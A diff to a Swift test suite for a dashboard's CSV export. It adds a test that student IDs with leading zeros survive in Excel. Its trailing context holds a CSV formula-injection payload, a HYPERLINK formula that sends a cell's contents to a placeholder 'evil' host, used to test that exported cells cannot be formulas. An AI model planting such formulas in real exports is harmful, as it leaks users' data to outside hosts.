@@ -54,6 +54,20 @@ struct CSVDownloadTests {
         }
     }
 
+    @Test func downloadedIdentifiersWithLeadingZerosOpenAsWritten() async throws {
+        let harness = try DashboardHarness()
+        try harness.central.write(.graduate("0212001", in: "AUTO"), fields: [
+            "student_no": .string("0212001"), "name": .string("周零"), "gender": .string("1"), "degree_level": .string("本科"),
+            "grad_year": .integer(2025),
+        ], mode: .create, author: "fixture")
+        try await harness.test { client in
+            let cookie = try await client.sessionCookie(token: harness.centralToken)
+            let text = try await client.get("/departments/AUTO?format=csv&table=unplaced", cookie: cookie).text
+            // As the export writes it, so that Excel keeps the zero (`0212001`, not `212001`).
+            #expect(text.contains("\r\n=\"0212001\",周零,AUTO,"), "\(text)")
+        }
+    }
+
     @Test func downloadedCellsCannotBeFormulas() async throws {
         let harness = try DashboardHarness()
         let name = "=HYPERLINK(\"http://evil/?\"&B2,\"点击\")"
